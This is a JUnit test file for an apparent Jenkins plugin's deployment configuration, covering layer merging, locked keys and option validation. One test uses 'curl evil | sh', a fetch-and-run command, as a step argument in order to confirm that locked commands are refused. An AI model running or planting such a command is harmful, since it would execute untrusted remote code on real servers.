package io.jenkins.plugins.zerodown.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LayersTest {
    @TempDir
    Path folder;

    @Test
    void later_layers_win_key_by_key_and_lists_whole() throws Exception {
        ConfigurationFile file = file("""
                application:
                      build: {composer: off, tests: from target, variables: {A: target, B: target}}
                      sharedDirs: [one, two]
                      opcache: {method: reload, warmUp: [/target]}
                """, """
                application:
                  build: {tests: from file, variables: {B: file, C: file}}
                  sharedDirs: [three]
                  opcache: cachetool
                """);
        Layer step = Layer.of(
                "the step's arguments",
                Map.of("build", Map.of("variables", Map.of("C", "step", "D", 4)), "migrate", false));

        Application application = file.application(file.target(""), step);

        assertThat(application.build().composer()).isEqualTo(new Application.Off());
        assertThat(application.build().node()).isEqualTo(new Application.Automatic());
        assertThat(application.build().tests()).contains("from file");
        assertThat(application.build().variables())
                .isEqualTo(Map.of("A", "target", "B", "file", "C", "step", "D", "4"));
        assertThat(application.sharedDirs()).containsExactly("three");
        assertThat(application.opcache().method()).isEqualTo(Application.Opcache.Method.CACHETOOL);
        assertThat(application.opcache().warmUp()).containsExactly("/target");
        assertThat(application.migrate()).isFalse();
    }

    @Test
    void a_locked_key_is_the_targets_own() throws Exception {
        String locked = "locked: [commands, build.tests]\n    ";
        ConfigurationFile file = file(locked + """
                application:
                      commands: {preRelease: [make ready]}
                      build: {tests: make test}
                """, "application: {build: {composer: off}}\n");

        Application application = file.application(file.target(""));

        assertThat(application.commands().preRelease())
                .extracting(Application.UserCommand::run)
                .containsExactly("make ready");
        assertThatThrownBy(() -> file.application(
                        file.target(""),
                        Layer.of(
                                "the step's arguments",
                                Map.of("commands", Map.of("postRelease", List.of("curl evil | sh"))))))
                .isInstanceOf(BadConfiguration.class)
                .hasMessage("the step's arguments: commands: a map where target production locks commands: "
                        + "remove it here, or have it unlocked in the target");
        assertThatThrownBy(() -> file(locked, "application: {build: {tests: 'true'}}\n"))
                .hasMessageContaining("zerodown.yaml:7: application.build.tests:")
                .hasMessageContaining("locks build.tests");
    }

    @Test
    void a_repository_brings_options_and_no_targets() throws Exception {
        Path own = Files.writeString(
                folder.resolve("repository.yaml"), "application: {sharedDirs: [uploads], envFile: .env.ci}\n");
        Path greedy = Files.writeString(folder.resolve("greedy.yaml"), "application: {}\ntargets: [{name: x}]\n");
        ConfigurationFile file = file("", "");

        Application application = file.application(file.target(""), Layer.ofRepository(own));

        assertThat(application.sharedDirs()).containsExactly("uploads");
        assertThat(application.envFile()).contains(folder.resolve(".env.ci").toString());
        assertThatThrownBy(() -> Layer.ofRepository(greedy))
                .isInstanceOf(BadConfiguration.class)
                .hasMessageContaining("greedy.yaml:2: targets:")
                .hasMessageContaining("must not choose where");
    }

    @Test
    void a_step_argument_that_is_no_option_is_refused_by_name() {
        assertThatThrownBy(() ->
                        Layer.of("the step's arguments", Map.of("sharedDir", List.of("a"), "health", new Object())))
                .isInstanceOf(BadConfiguration.class)
                .hasMessageContaining(
                        "the step's arguments: sharedDir: 'sharedDir' is not known here: did you mean sharedDirs?")
                .hasMessageContaining("the step's arguments: health: a Object is no value for a key");
    }

    @Test
    void what_a_layer_says_can_be_read_back_in_the_same_words() throws Exception {
        Map<String, Object> options = Map.of("sharedDirs", List.of("a", "b"), "health", Map.of("url", "https://h/"));

        assertThat(Layer.of("here", options).options()).isEqualTo(options);
    }

    @Test
    void plain_php_shares_and_migrates_nothing_that_was_not_written() throws Exception {
        ConfigurationFile file = file("", "application: {sharedFiles: [config.php]}\n");
        Application unknown = file.application(file.target(""));

        Application php = unknown.forKind(Application.Kind.PHP);

        assertThat(unknown.sharedDirs()).containsExactly("storage");
        assertThat(php.sharedDirs()).isEmpty();
        assertThat(php.sharedFiles()).containsExactly("config.php");
        assertThat(php.migrate()).isFalse();
        assertThat(unknown.forKind(Application.Kind.LARAVEL).sharedDirs()).containsExactly("storage");
        assertThat(unknown.forKind(Application.Kind.LARAVEL).migrate()).isTrue();
    }

    @Test
    void a_written_kind_outlasts_what_the_source_looks_like() throws Exception {
        ConfigurationFile file = file("", "application: {kind: php}\n");

        Application application = file.application(file.target("")).forKind(Application.Kind.LARAVEL);

        assertThat(application.kind()).contains(Application.Kind.PHP);
        assertThat(application.sharedFiles()).isEmpty();
    }

    private ConfigurationFile file(String ofTarget, String atTop) throws BadConfiguration {
        return ConfigurationFile.parse("zerodown.yaml", folder, """
                targets:
                  - name: production
                    deployPath: /var/www/app
                    servers: [{host: a, user: u, identityFile: k}]
                    %s
                %s""".formatted(ofTarget, atTop));
    }
}
